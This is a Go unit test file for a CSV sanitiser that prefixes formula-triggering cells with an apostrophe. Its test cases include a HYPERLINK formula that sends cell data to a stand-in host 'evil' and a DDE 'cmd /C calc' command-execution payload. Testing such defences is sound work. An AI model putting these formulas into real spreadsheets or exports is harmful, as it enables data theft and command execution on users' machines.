package safecsv

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	scenarios := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"请假 3 天", "请假 3 天"},
		{"a=b", "a=b"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-5", "-5"},
		{"+1.5", "+1.5"},
		{"-", "'-"},
		{"'already", "'already"},
	}
	for _, s := range scenarios {
		if got := Cell(s.in); got != s.want {
			t.Errorf("Cell(%q) = %q, want %q", s.in, got, s.want)
		}
	}
}

func TestWriterEscapesEveryField(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	if err := w.Write([]string{"=a", "b", "@c"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rec, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	if rec[0] != "'=a" || rec[1] != "b" || rec[2] != "'@c" {
		t.Fatalf("record %q", rec)
	}
}
